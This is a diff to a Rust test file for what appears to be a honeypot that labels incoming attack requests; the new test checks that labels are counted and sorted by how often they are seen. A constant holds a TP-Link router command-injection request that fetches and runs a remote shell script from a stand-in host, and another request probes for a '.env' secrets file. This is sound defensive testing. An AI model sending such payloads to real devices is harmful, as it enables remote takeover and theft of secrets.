@@ -6,6 +6,7 @@ use std::process::{Output, Stdio};
 use anyhow::{Context, ensure};
 use forever200_testkit::process::{command, programs};
 use forever200_testkit::stack::Stack;
+use forever200_testkit::until;
 use serde_json::{Value, json};
 
 const EXPLOIT: &[u8] = b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.66/x.sh+-O-|sh) HTTP/1.1\r\nHost: x\r\n\r\n";
@@ -332,6 +333,38 @@ async fn the_list_of_labels_is_short_and_can_be_searched() -> anyhow::Result<()>
         let page = stack.get(&format!("/home/labels?{query}")).await?.text();
         ensure!(page.contains(expected), "{query}: {page}");
     }
+    Ok(())
+}
+
+/// Each of a request's labels is counted, also when it is not the first.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_list_of_labels_says_what_was_seen_and_sorts_by_it() -> anyhow::Result<()> {
+    let folder = tempfile::tempdir()?;
+    let path = folder.path().to_str().context("an odd path")?;
+    let stack = Stack::start_with(&[("FOREVER200_HISTORY", path)]).await?;
+    for request in [&b"GET /.env HTTP/1.1\r\n\r\n"[..], EXPLOIT, EXPLOIT] {
+        stack.send(request).await?;
+    }
+    stack.until_recorded(3).await?;
+    let page = until("both are counted", || async {
+        let page = stack.get("/home/labels").await.ok()?.text();
+        page.contains("2 in the history").then_some(page)
+    });
+    let page = page.await?;
+    ensure!(page.contains("/home/collection/dotenv-file"), "{page}");
+    let by_title = stack.get("/home/labels?category=exploit").await?.text();
+    let by_seen = stack
+        .get("/home/labels?category=exploit&sort=seen")
+        .await?
+        .text();
+    ensure!(by_seen.contains(" of them seen"), "{by_seen}");
+    let at = |page: &str| page.find("/home/labels?label=tp-link").context("no label");
+    let others = |page: &str| -> anyhow::Result<usize> {
+        Ok(page[..at(page)?].matches("/home/labels?label=").count())
+    };
+    ensure!(others(&by_title)? > 100, "{}", others(&by_title)?);
+    ensure!(others(&by_seen)? < 10, "{}", others(&by_seen)?);
+    ensure!(stack.get("/home/labels?sort=new").await?.status == 400);
     Ok(())
 }
 
